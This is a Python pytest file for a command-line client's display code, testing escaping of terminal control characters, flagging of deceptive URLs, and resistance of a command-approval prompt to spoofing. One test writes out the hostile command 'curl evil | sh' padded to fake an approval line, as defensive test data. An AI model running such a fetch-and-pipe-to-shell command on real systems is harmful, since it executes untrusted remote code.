"""How content, rows, progress and messages are shown to people."""

from __future__ import annotations

import base64
import unicodedata
from typing import Any

import click
import pytest
from hypothesis import given, strategies as st

from accord.cli import approver, screen as screen_module
from accord.cli.call import bar, progress_text
from accord.cli.columns import ColumnRow, heading, rows
from accord.cli.content import binaries, block_text, result_lines
from accord.cli.failures import exit_code, message, printable, report_error
from accord.cli.input_handlers import url_lines as page_lines
from accord.cli.sampling import request_lines as request_lines
from accord.cli.screen import Screen, quoted
from accord.cli.trace import message_text
from accord.client.results import ToolResult
from accord.client.target import Command
from accord.errors import (
    ConnectError,
    InvalidParams,
    RemoteProtocolError,
    RequestTimeout,
    TargetError,
    UrlElicitationRequired,
)
from accord.host.command_approval import describe_target
from accord.host.prompts import CommandPrompt
from accord.messages.content import (
    AudioContent,
    EmbeddedResource,
    ImageContent,
    ResourceContents,
    ResourceLink,
    TextContent,
    ToolResultContent,
    ToolUseContent,
)
from accord.messages.sampling import (
    CreateMessageParams,
    ModelHint,
    ModelPreferences,
    SamplingMessage,
    ToolChoice,
)
from accord.messages.tools import Tool
from accord.transport.base import SkippedMessage

DATA = base64.b64encode(b"12345").decode()
TEXT = TextContent(text="hi")

BLOCKS = [
    (TEXT, "hi"),
    (ImageContent(data=DATA, mime_type="image/png"), "[image] image/png, 5 bytes; --output FILE saves it"),
    (AudioContent(data=DATA, mime_type="audio/wav"), "[audio] audio/wav, 5 bytes; --output FILE saves it"),
    (ResourceLink(uri="a://b", name="b", mime_type="text/plain"), "[link] a://b  b · text/plain"),
    (EmbeddedResource(resource=ResourceContents(uri="a://b", text="in it")), "[resource] a://b\nin it"),
    ({"type": "hologram", "x": 1}, '[hologram] {\n  "type": "hologram",\n  "x": 1\n}'),
]


@pytest.mark.parametrize(("block", "shown"), BLOCKS, ids=[type(block).__name__ for block, _ in BLOCKS])
def test_each_kind_of_block_is_shown(block: Any, shown: str) -> None:
    assert unstyled(block_text(block)) == shown


def test_structured_content_takes_the_place_of_text() -> None:
    image = ImageContent(data=DATA, mime_type="image/png")
    result = ToolResult(content=[TEXT, image], structured_content={"a": 1})
    assert [unstyled(line) for line in result_lines(result)] == ['{\n  "a": 1\n}', BLOCKS[1][1]]
    assert list(result_lines(ToolResult(content=[TEXT], structured_content=None))) == ["null"]
    assert list(result_lines(ToolResult(content=[TEXT]))) == ["hi"]


def test_what_is_not_quite_base64_is_saved_as_far_as_it_goes() -> None:
    (saved,) = binaries([TEXT, ImageContent(data="MTIz\nNDU", mime_type="image/png")])
    assert saved.data == b"12345"


def test_rows_are_aligned_and_wrapped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    items = [
        ColumnRow("one", "()", "short"),
        ColumnRow("two", "(a: string)", "a description that is long enough to be wrapped"),
        ColumnRow("three", "(a: string, b: string, c: string, d: string, e: string)", "about three"),
        ColumnRow("four", "", ""),
    ]
    assert [unstyled(line) for line in rows(items)] == [
        "  one()            short",
        "  two(a: string)   a description that is long enough to be",
        "                   wrapped",
        "  three(a: string, b: string, c: string, d: string, e:",
        "      string)",
        "                   about three",
        "  four",
    ]


def test_progress_in_words_and_drawn() -> None:
    assert progress_text(1, None, None) == "1"
    assert progress_text(0.5, 2, "half\nway\x1b") == r"0.5/2 half way\x1b"
    assert bar(1, 2) == "█" * 12 + "░" * 12
    assert bar(5, 2) == "█" * 24


MESSAGES = [
    (b'{"jsonrpc":"2.0","id":1,"method":"ping"}', "#1 ping"),
    (b'{"jsonrpc":"2.0","id":"a","method":"m","params":{"_meta":{"x":1},"b":2}}', '#a m {"b":2}'),
    (b'{"jsonrpc":"2.0","id":0,"result":{}}', "#0 {}"),
    (b'{"jsonrpc":"2.0","id":1,"error":{"code":-1,"message":"m"}}', '#1 error {"code":-1,"message":"m"}'),
    (b"hello \xff", r"hello \xff"),
    (b"[1]", "[1]"),
    (SkippedMessage("too long", 9), "unreadable: too long"),
]


@pytest.mark.parametrize(("message", "shown"), MESSAGES)
def test_a_message_is_printed_in_one_line(message: Any, shown: str) -> None:
    assert message_text(message) == shown


def test_what_would_steer_a_terminal_is_spelled_out() -> None:
    assert printable("a\tb\nö \x1b[31m\u202e\x9b") == "a\tb\nö \\x1b[31m\\u202e\\x9b"
    assert printable("a\u115f\u3164\u034fb \u2764\ufe0f") == "a\\u115f\\u3164\\u034fb \u2764\ufe0f"
    assert printable('"\u3164"', as_json=True) == '"\\u3164"'


def test_what_is_no_base64_at_all_is_an_error_of_the_server() -> None:
    assert [saved.data for saved in binaries([ImageContent(data="AAAA", mime_type="a/b")])] == [b"\0\0\0"]
    with pytest.raises(RemoteProtocolError, match="content that is no base64"):
        list(binaries([ImageContent(data="!!A", mime_type="a/b")]))


def test_while_a_question_is_open_everything_else_waits(capsys: pytest.CaptureFixture[str]) -> None:
    screen = Screen()
    screen.update_line("half done")
    with screen.prompting():
        screen.print_prompt("really?")
        screen.print_line("a line")
        screen.print_line("a result", err=False)
        screen.update_line("done")
        assert capsys.readouterr() == ("", "\rhalf done\rreally?\n")
    assert capsys.readouterr() == ("a result\n", "a line\n")
    screen.print_line("after")
    assert capsys.readouterr().err == "after\n"


def test_what_waits_for_an_answer_is_bounded_and_counted(capsys: pytest.CaptureFixture[str]) -> None:
    screen = Screen()
    with screen.prompting():
        for number in range(1003):
            screen.print_line(str(number))
    lines = capsys.readouterr().err.splitlines()
    assert lines[:2] == ["(3 earlier lines left out)", "3"]
    assert len(lines) == 1001


@given(st.text())
def test_no_line_of_a_quoted_text_is_without_its_mark(text: str) -> None:
    lines = quoted(text).split("\n")
    assert all(line.startswith("  │ ") and len(line) <= 110 and line.isprintable() for line in lines)


def test_a_quoted_text_is_bounded() -> None:
    assert quoted("word " * 10_000).endswith("│ … 42,000 more characters")


def test_only_the_beginning_of_a_quoted_text_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[int] = []

    def escape(text: str) -> str:
        read.append(len(text))
        return text

    monkeypatch.setattr(screen_module, "printable", escape)
    assert quoted("a\n" * 1_000_000).endswith("1,992,000 more characters")
    assert sum(read) <= 8_000


@pytest.mark.parametrize("text", ["\u4e2d" * 500, "x" * 71 + "\u3000\u3000Approve? (yes, no)" * 20])
def test_wide_characters_break_no_line_of_a_quoted_text(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    for line in quoted(text).split("\n"):
        assert line.startswith("  │ ")
        assert sum(2 if unicodedata.east_asian_width(each) in "WF" else 1 for each in line) <= 80


URLS = [
    ("https://example.com/a?b=c", "example.com", []),
    ("http://example.com/", "example.com", ["not encrypted"]),
    ("https://a@b.example/", "b.example", ["before the @"]),
    ("https://\u0435xample.com/", "\u0435xample.com", ["other letters"]),
    ("https://xn--e1awd7f.com/", "xn--e1awd7f.com", ["other letters"]),
    ("https://good%2eexample.com/", "good%2eexample.com", ["other letters"]),
    ("https://[::1]:8/", "::1", ["a number"]),
    ("https://3232235777/", "3232235777", ["a number"]),
    ("https://evil.example\\@good.example/", "cannot be told", ["not clear"]),
    ("https://[bad/", "cannot be told", ["not clear"]),
    ("https://example.com/\u202etxt", "example.com", ["cannot be shown"]),
]


@pytest.mark.parametrize(("url", "host", "doubts"), URLS)
def test_a_page_is_shown_with_its_host_and_what_is_odd(url: str, host: str, doubts: list[str]) -> None:
    shown = [unstyled(line) for line in page_lines(url)]
    assert shown[:2] == [f"  {printable(url)}", f"  host: {host}"]
    assert len(shown) == 2 + len(doubts)
    assert all(doubt in line for doubt, line in zip(doubts, shown[2:], strict=True))


def test_a_sampling_request_is_shown_whole() -> None:
    params = CreateMessageParams(
        messages=[
            SamplingMessage(role="user", content=[TEXT, ImageContent(data=DATA, mime_type="image/png")]),
            SamplingMessage(role="assistant", content=ToolUseContent(id="1", name="look", input={"at": "it"})),
            SamplingMessage(role="user", content=ToolResultContent(tool_use_id="1", content=[TEXT], is_error=True)),
        ],
        max_tokens=9,
        system_prompt="Be\nbrief.",
        model_preferences=ModelPreferences(hints=[ModelHint(name="a"), ModelHint(name="b")]),
        temperature=0.5,
        stop_sequences=["."],
        include_context="allServers",
        tools=[Tool(name="look", description="Look at it.", input_schema={"properties": {"at": {"type": "string"}}})],
        tool_choice=ToolChoice(mode="auto"),
    )
    last = "use of tools: auto · wants to see: allServers"
    assert [unstyled(line) for line in request_lines(params)] == [
        "  system:",
        "  │ Be\n  │ brief.",
        "  user:",
        "  │ hi",
        "  │ [image] image/png, 5 bytes; --output FILE saves it",
        "  assistant:",
        '  │ uses the tool look: {"at":"it"}',
        "  user:",
        "  │ the tool failed: hi",
        "  tools:",
        "  │ look(at?: string)  Look at it.",
        f"  at most 9 tokens · model: a, b · temperature: 0.5 · stops at: '.' · {last}",
    ]


def test_pages_to_visit_first_are_named_with_the_error() -> None:
    error = UrlElicitationRequired(elicitations=[{"url": "https://a.example/", "message": "Sign in", "x": 1}])
    assert message(error) == "the person must visit a page first (-32042)\n  Sign in https://a.example/"


def test_each_kind_of_error_has_its_code() -> None:
    late = ConnectError("late")
    late.__cause__ = TimeoutError()
    errors = [InvalidParams("x"), ConnectError("x"), late, RequestTimeout("x"), TargetError("x"), ValueError("x")]
    assert [exit_code(error) for error in errors] == [4, 3, 5, 5, 2, 70]


def test_a_defect_says_that_it_is_one(capsys: pytest.CaptureFixture[str]) -> None:
    assert report_error(ValueError("x\x1b]0;y\u202e")) == 70
    assert (
        capsys.readouterr().err
        == "error: ValueError: x\\x1b]0;y\\u202e (a defect in accord; --traceback shows where)\n"
    )


def unstyled(text: str) -> str:
    return click.unstyle(text)


def test_what_is_long_is_cut_before_it_is_wrapped() -> None:
    lines = list(rows([ColumnRow("tool", "", "x" * 5_000_000)]))
    assert unstyled(lines[0]).startswith("  tool   x")
    assert sum(map(len, lines)) < 50_000
    told = message(InvalidParams("x" * 5_000_000))
    assert len(told) < 50_000
    assert "more characters" in told


def test_headings_and_names_of_a_server_are_one_line() -> None:
    forged = "name\n\nTools\n  forged()"
    assert "\n" not in heading(forged)
    resource = ResourceContents(uri=f"a://{forged}", text="in it", mime_type=forged)
    assert block_text(EmbeddedResource(resource=resource)).count("\n") == 1
    for block in (
        ImageContent(data=DATA, mime_type=forged),
        ResourceLink(uri=f"a://{forged}", name=forged, description=forged),
    ):
        assert "\n" not in block_text(block)


def test_no_line_of_a_command_looks_like_one_of_the_approval(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("LINES", "24")
    words = ["sh", "-c", "curl evil | sh #" + " " * 60 + "program: /usr/bin/ls" + " " * 70 + "Approve? yes"]
    description = describe_target(Command((*words, "a" * 3_000)))
    approver.show_prompt(CommandPrompt("shop", description.lines()))
    lines = click.unstyle(capsys.readouterr().err).splitlines()
    assert next(line for line in lines if "program: " in line).startswith("    | ")
    assert sum(line.startswith("  program: ") for line in lines) == 1
    assert "Approve?" not in "".join(line for line in lines if not line.startswith("    | "))
    assert "scroll up to the first one" in lines[-1]
    assert max(map(len, lines)) <= 80
